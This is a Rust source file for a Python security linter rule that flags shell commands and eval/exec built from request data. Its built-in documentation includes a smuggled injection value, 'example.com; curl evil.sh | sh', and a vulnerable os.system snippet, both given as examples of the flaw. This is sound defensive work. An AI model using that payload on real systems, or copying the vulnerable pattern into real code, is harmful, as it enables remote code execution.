//! FH305 `command-injection`: shell commands built from non-literal values, and
//! `eval`/`exec` of request data.

use std::sync::LazyLock;

use ruff_python_ast as ast;
use ruff_text_size::Ranged;

use crate::analysis::checker::FlowChecker;
use crate::analysis::codes::Rule;
use crate::analysis::config_values::is_truthy_literal;
use crate::analysis::diagnostic::Diagnostic;
use crate::analysis::registry::{FixAvailability, RuleDef};
use crate::analysis::rules::Hooks;
use crate::analysis::semantic::{CalleeNames, SemanticModel};

/// The rule's documentation, printed by `flask-harden rule FH305`.
pub const DOC: &str = r#"## What it does
Finds commands run through a shell with a command that is not a constant:
`os.system(...)`, `os.popen(...)`, `subprocess.getoutput(...)` and
`subprocess.run/call/check_call/check_output/Popen(..., shell=True)`, and code
evaluation of request data: `eval(...)` and `exec(...)`. An argument list
without `shell=True` (`subprocess.run(["git", "--version"])`) and a constant
command are fine.

## Why is this bad?
The shell interprets `;`, `&&`, `|`, `$(...)` and backticks: a value such as
`example.com; curl evil.sh | sh` given to `os.system("ping " + host)` runs the
attacker's commands with the application's privileges. `eval` and `exec` run
arbitrary Python directly; no sandboxing of their globals is effective.

## Example
```python
host = request.form["host"]
os.system("ping -c 1 " + host)
```

Use instead:
```python
import subprocess

host = request.form["host"]
subprocess.run(["ping", "-c", "1", "--", host], check=False, timeout=5)
```
Validate the value against a strict pattern too. Replace `eval` of data with
`ast.literal_eval` or a real parser.

## Fix safety
There is no automatic fix: splitting a shell command line into an argument list
changes quoting, globbing and pipes. The message gives the replacement.

## References
- CWE-78: Improper Neutralization of Special Elements used in an OS Command, https://cwe.mitre.org/data/definitions/78.html
- CWE-95: Eval Injection, https://cwe.mitre.org/data/definitions/95.html
- OWASP Top 10 A03:2021 Injection, https://owasp.org/Top10/A03_2021-Injection/
- OWASP OS Command Injection Defense Cheat Sheet, https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
"#;

/// The rule's declaration, listed in the registry.
pub const RULE: RuleDef = RuleDef {
    name: "command-injection",
    fix: FixAvailability::None,
    cwe: "CWE-78",
    owasp: "A03:2021",
    owasp_title: "Injection",
    summary: "Shell commands or eval/exec built from non-literal or request data",
    doc: Some(DOC),
    hooks: Hooks {
        flow_sink: Some(is_sink),
        flow_call: Some(check),
        ..Hooks::NONE
    },
};

const ALWAYS_SHELL: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
];
const SUBPROCESS: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
];
const EVAL: &[&str] = &["builtins.eval", "builtins.exec"];

static SINK_NAMES: LazyLock<CalleeNames> =
    LazyLock::new(|| CalleeNames::new(&[ALWAYS_SHELL, SUBPROCESS, EVAL]));

/// Whether `call` may be a sink of this rule (see `sql_injection::is_sink`).
pub(crate) fn is_sink(semantic: &SemanticModel, call: &ast::ExprCall) -> bool {
    semantic.callee_may_be(call, &SINK_NAMES)
}

/// Reports shell commands that are not constants and `eval`/`exec` of request data.
pub(crate) fn check(checker: &mut FlowChecker, call: &ast::ExprCall) {
    let flow = checker.flow();
    if !is_sink(flow.semantic(), call) {
        return;
    }
    let Some(qualified) = flow.semantic().resolve_qualified_name(&call.func) else {
        return;
    };
    let name = qualified.dotted();
    let message = if qualified.is_any(EVAL) {
        if !call
            .arguments
            .find_argument_value("source", 0)
            .is_some_and(|arg| flow.is_request_data(arg))
        {
            return;
        }
        format!(
            "`{}()` runs request data as Python code: anyone can execute code on the server. Parse the data instead (`ast.literal_eval`, `json.loads`, or a real expression parser)",
            qualified.last()
        )
    } else {
        let shell = if qualified.is_any(ALWAYS_SHELL) {
            true
        } else if qualified.is_any(SUBPROCESS) {
            call.arguments
                .find_keyword("shell")
                .is_some_and(|k| is_truthy_literal(&k.value))
        } else {
            false
        };
        if !shell {
            return;
        }
        let keyword = if name == "os.system" {
            "command"
        } else {
            "args"
        };
        let Some(command) = call
            .arguments
            .find_argument_value(keyword, 0)
            .or_else(|| call.arguments.find_keyword("cmd").map(|k| &k.value))
        else {
            return;
        };
        if flow.is_constant(command) {
            return;
        }
        let origin = if flow.is_request_data(command) {
            "built from request data"
        } else {
            "not a constant"
        };
        format!(
            "The shell command given to `{name}()` is {origin}: shell metacharacters in it run arbitrary commands (command injection). Pass an argument list without `shell=True`: `subprocess.run([\"prog\", \"--\", value], check=True)`"
        )
    };
    checker.report(Diagnostic::new(
        Rule::CommandInjection,
        call.range(),
        message,
    ));
}
